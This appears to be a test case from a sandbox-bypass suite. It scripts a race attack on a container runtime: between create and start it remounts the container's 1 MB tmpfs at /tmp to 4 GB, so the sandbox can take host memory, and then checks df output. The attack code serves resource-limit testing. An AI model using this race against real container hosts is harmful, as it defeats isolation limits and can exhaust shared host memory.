"""The size of a tmpfs is lifted between create and start, so that it takes the host's memory."""

from bypass import attested, world

SOURCE = "idea; openclaw#105466"
WAY = "race"
STOPPED = attested("tmpfs at `/tmp`")


def attack(t):
    t.mount("tmpfs", "tmpfs", "/tmp", "size=1m", "mode=1777")
    t.create("df -m /tmp | tail -n 1")
    world.within(t.pid, ["mnt"], lambda: world.mount("", "/tmp", flags=world.MS_REMOUNT, data="size=4g"))
    t.start()
    return "4096" in t.ended() and "4 GiB"
